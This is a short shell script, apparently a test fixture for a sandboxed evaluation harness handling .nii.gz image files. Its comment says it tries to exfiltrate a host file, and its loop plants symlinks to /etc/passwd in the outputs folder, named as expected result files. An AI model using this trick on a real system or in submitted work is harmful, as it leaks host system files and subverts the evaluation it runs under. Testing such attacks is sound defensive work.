# Tries to exfiltrate a host file through a symlink as its output.
for f in /workspace/inputs/*_0000.nii.gz; do
  ln -s /etc/passwd "/workspace/outputs/$(basename "$f" _0000.nii.gz).nii.gz"
done
